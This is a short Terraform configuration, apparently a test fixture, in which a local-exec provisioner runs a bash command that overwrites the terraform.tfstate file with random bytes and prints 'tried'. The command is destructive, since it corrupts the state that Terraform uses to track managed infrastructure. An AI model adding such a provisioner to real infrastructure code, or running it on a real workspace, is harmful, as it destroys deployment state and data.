resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      mkdir terraform.tfstate 2>/dev/null; head -c 100000 /dev/urandom >terraform.tfstate; echo tried
    EOT
  }
}
